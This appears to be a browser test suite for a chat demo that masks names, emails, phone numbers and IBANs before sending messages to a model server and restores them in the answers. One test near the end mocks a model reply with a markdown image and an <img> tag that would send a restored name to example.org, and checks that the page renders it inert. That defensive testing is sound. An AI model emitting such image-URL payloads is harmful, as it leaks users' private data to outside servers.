// SPDX-License-Identifier: Apache-2.0
// The example of a chat, in Chromium: what its server gets has none of the values, and the answers have them back.

import { describe, expect } from "@jest/globals";

import { browserTest as test } from "./browser.js";
import { screenshot } from "./demo_page.js";
import { amiss, useExamples } from "./example_page.js";

const { example, onPage } = useExamples("chat");

const first =
  "Dear Sarah Connor, please write to anna.berg@example.org or ring +44 20 7946 0018. " +
  "The contract with Emma Brandt in London is signed.";
const second = "Has Brandt paid to DE89 3704 0044 0532 0130 00?";
const secret = /Sarah|Connor|anna|berg@|7946|Emma|Brandt|London|DE89|3704/i;

const field = (page) => page.getByLabel("Your message");
const preview = (page) => page.getByRole("group", { name: "This will be sent" });
const rows = (page) => page.locator("#rows tr");

/** Which rule of the page's policy forbids a picture at this address. */
function violationOf(address) {
  return new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
      resolve(effectiveDirective),
    );
    document.body.append(Object.assign(document.createElement("img"), { src: address }));
  });
}

/** Types a message, and waits until it is shown as it will be sent. */
async function type(page, text) {
  await field(page).fill(text);
  await page.locator("#send:enabled").waitFor();
}

/** Sends what is typed, and waits for the whole answer: as shown, and as it came. */
async function answerOf(page) {
  const count = await page.locator("article.answer").count();
  await field(page).press("Enter");
  const answer = page.locator("article.answer").nth(count);
  await answer.and(page.locator("[aria-busy=false]")).waitFor();
  const [shown, came] = await answer.locator("p").allTextContents();
  return { shown, came };
}

async function onChat(body, options) {
  const { url } = example();
  const viewport = { width: 1100, height: 850 };
  await onPage(
    url,
    async (page, requests) => {
      await page.locator("#text:focus").waitFor();
      const problems = await body(page, requests);
      expect(requests.filter((each) => !each.url.startsWith(url))).toEqual([]);
      return problems;
    },
    { viewport, ...options },
  );
}

test("two messages are sent without their values, and both answers have them", async () => {
  await onChat(async (page, requests) => {
    await type(page, first);
    expect(await preview(page).textContent()).toBe(
      "Dear [PER_1], please write to [EMAIL_1] or ring [PHONE_1]. " +
        "The contract with [PER_2] in [LOC_1] is signed.",
    );
    await page.screenshot({ path: screenshot("example-chat.png") });
    await page.evaluate(() => {
      // What a reader sees of the answer while it comes.
      globalThis.seen = new Set();
      new MutationObserver(() => {
        const answer = document.querySelector("article.answer > p");
        globalThis.seen.add(answer?.textContent ?? "");
      }).observe(document.querySelector("#messages"), { childList: true, subtree: true });
    });
    const one = await answerOf(page);
    expect(one.came).toBe(
      "Thank you. I noted [PER_1], email_1, PHONE_1, [per_2], [LOC_1]. Shall I write to per_1?",
    );
    expect(one.shown).toBe(
      "Thank you. I noted Sarah Connor, anna.berg@example.org, +44 20 7946 0018, Emma Brandt, " +
        "London. Shall I write to Sarah Connor?",
    );
    const seen = await page.evaluate(() => [...globalThis.seen]);
    expect(seen.length).toBeGreaterThan(3);
    for (const each of seen) expect(one.shown.startsWith(each)).toBe(true);

    await type(page, second);
    expect(await preview(page).textContent()).toBe("Has [PER_2b] paid to [IBAN_1]?");
    const two = await answerOf(page);
    expect(two.shown).toBe(
      "Thank you. I noted Brandt, DE89 3704 0044 0532 0130 00. Shall I write to Brandt? " +
        "Is Sarah Connor to know of it, too?",
    );
    await page.locator("summary").last().click();
    await page.screenshot({ path: screenshot("example-chat-answer.png"), fullPage: true });

    const bodies = requests.flatMap(({ body }) => (body === "" ? [] : [JSON.parse(body)]));
    expect(bodies.map(({ messages }) => messages.map(({ content }) => content))).toEqual([
      [expect.stringMatching(/^Dear \[PER_1\], /)],
      [expect.stringMatching(/^Dear \[PER_1\], /), one.came, "Has [PER_2b] paid to [IBAN_1]?"],
    ]);
    expect(JSON.stringify(requests)).not.toMatch(secret);
    expect(`${one.came}${two.came}`).not.toMatch(secret);
  });
});

describe("the table", () => {
  test("keeps, masks and forgets a value, by its buttons", async () => {
    await onChat(async (page) => {
      await type(page, "Emma Brandt is in London.");
      await page.getByRole("button", { name: "Keep London" }).press("Enter");
      await page.getByRole("button", { name: "Mask London" }).waitFor();
      await page.locator("#send:enabled").waitFor();
      expect(await preview(page).textContent()).toBe("[PER_1] is in London.");
      expect(
        await page.locator("#table-title").evaluate((it) => it === document.activeElement),
      ).toBe(true);
      expect((await answerOf(page)).shown).toBe(
        "Thank you. I noted Emma Brandt. Shall I write to Emma Brandt?",
      );

      await type(page, "London again, and Brandt.");
      expect(await preview(page).textContent()).toBe("London again, and [PER_1b].");
      await page.getByRole("button", { name: "Mask London" }).click();
      await page.getByRole("button", { name: "Keep London" }).waitFor();
      await page.locator("#send:enabled").waitFor();
      expect(await preview(page).textContent()).toBe("[LOC_1] again, and [PER_1b].");

      await page.getByRole("button", { name: "Forget Emma Brandt" }).click();
      await rows(page).filter({ hasText: "Emma Brandt" }).waitFor({ state: "detached" });
      await page.locator("#send:enabled").waitFor();
      // The name is another now, and what stood for the first is given to nobody.
      const { shown, came } = await answerOf(page);
      expect(came).toMatch(/\[PER_1\]|per_1(?!b)|PER_1(?!b)/i);
      expect(shown).toMatch(/Is PER_1 to know of it, too\?$/);
      expect(shown).not.toContain("Emma");
    });
  });

  test("has nothing of what was typed and not sent", async () => {
    await onChat(async (page) => {
      await type(page, "Kim Novak is ill.");
      expect(await rows(page).count()).toBe(1);
      await type(page, "Sarah Connor is ill.");
      expect(await rows(page).locator("td").allTextContents()).toEqual([
        ...["[PER_1]", "Sarah Connor", "PER", "Keep"],
      ]);
    });
  });

  test("takes what a reader selects and nothing has found", async () => {
    await onChat(async (page, requests) => {
      await type(page, "The project is called bluefin.");
      expect(await preview(page).textContent()).toBe("The project is called bluefin.");
      await field(page).press("End");
      await field(page).press("ArrowLeft");
      for (let at = 0; at < "bluefin".length; ++at) await field(page).press("Shift+ArrowLeft");
      await page.getByRole("button", { name: "Mask what is selected" }).click();
      await page.locator("#preview mark").waitFor();
      expect(await preview(page).textContent()).toBe("The project is called [PRIVATE_1].");
      await page.locator("#send:enabled").waitFor();
      expect((await answerOf(page)).shown).toMatch(/I noted bluefin\./);
      expect(JSON.stringify(requests)).not.toContain("bluefin");
    });
  });
});

test("an answer is ended by a button, and the next one comes whole", async () => {
  await onChat(async (page) => {
    await type(page, first);
    await field(page).press("Enter");
    await page.getByRole("button", { name: "Stop" }).click();
    await page.locator("article.answer[aria-busy=false]").waitFor();
    await type(page, "Sarah Connor again.");
    expect((await answerOf(page)).shown).toMatch(/^Thank you\. I noted Sarah Connor\./);
  });
});

test("an answer is shown as text, and the page asks no other server whatever it says", async () => {
  await onChat(async (page, requests) => {
    // As one that wants a value in an address would be, had the page made markup of it.
    await page.route("**/v1/chat/completions", (route) => {
      const content =
        "![x](https://example.org/?n=[PER_1]) <img src='https://example.org/?n=[PER_1]'>";
      const data = JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
      return route.fulfill({ contentType: "text/event-stream", body: `data: ${data}\n\n` });
    });
    await type(page, "Sarah Connor is ill.");
    const { shown } = await answerOf(page);
    expect(shown).toContain("<img src='https://example.org/?n=Sarah Connor'>");
    expect(await page.locator("img").count()).toBe(0);
    expect(requests.filter(({ url }) => /example\.org|Sarah/.test(url))).toEqual([]);
    expect(await page.evaluate(violationOf, "/picture.png?n=Sarah")).toBe("img-src");
    return [expect.stringContaining("img-src")];
  });
});

describe.each(["light", "dark"])("in %s", (colorScheme) => {
  test.each([1100, 400])(
    "at %i pixels axe finds nothing amiss, and nothing is cut off",
    async (width) => {
      await onChat(
        async (page) => {
          await type(page, first);
          expect(await amiss(page)).toEqual([]);
          await answerOf(page);
          await type(page, second);
          expect(await amiss(page)).toEqual([]);
          expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
          const name = `example-chat-${colorScheme}-${width}.png`;
          await page.screenshot({ path: screenshot(name), fullPage: true });
        },
        { colorScheme, viewport: { width, height: 850 }, withAxe: true },
      );
    },
  );
});
